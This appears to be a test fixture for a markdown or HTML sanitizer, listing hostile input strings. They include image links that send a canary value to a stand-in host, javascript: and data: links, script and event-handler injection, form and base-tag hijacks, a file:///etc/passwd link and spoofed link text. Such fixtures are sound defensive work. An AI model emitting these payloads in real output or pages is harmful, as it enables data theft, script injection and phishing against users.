// Text that tries to send something out or to run something, one kind a line.

export const hostile: readonly string[] = [
  "Exfiltration image: ![p](https://evil.example.test/p.png?d=CANARY-UI)",
  "Reference image: ![r][ref]\n\n[ref]: https://evil.example.test/r.png?d=CANARY-UI",
  "[script link](javascript:alert(1)) [spaced](java\tscript:alert(1)) [data link](data:text/html,<script>alert(1)</script>) [entity](&#106;avascript:alert(1)) <javascript:alert(1)>",
  '<img src=x onerror=alert(1)> <svg onload=alert(1)> <iframe src="https://evil.example.test"></iframe> <style>@import "https://evil.example.test/c.css"</style> <a href="https://evil.example.test" target=_blank>ok?</a> <base href="https://evil.example.test/"> <form action="https://evil.example.test"><input name=k></form>',
  "[https://bank.example.test](https://evil.example.test) — text and address disagree",
  "<details><summary>x</summary><script>alert(1)</script></details>",
  "`inline <b>code</b>` and $x<y$ and a bare https://a.example.test/?q=(paren)_end.",
  "| a | b |\n|---|---|\n| <script>alert(1)</script> | `|` |",
  '```html\n<script>alert("shown as text")</script>\n```',
  "[blob](blob:https://evil.example.test/1) [file](file:///etc/passwd) [vb](vbscript:x) [ext](chrome-extension://abc/x.html) [about](about:blank) [rel](//evil.example.test/x) [here](/x)",
  "<https://user:pass@evil.example.test/> [bank.example.test](https://bank.example.test@evil.example.test/) [\u202etset.elpmaxe.knab](https://evil.example.test)",
];
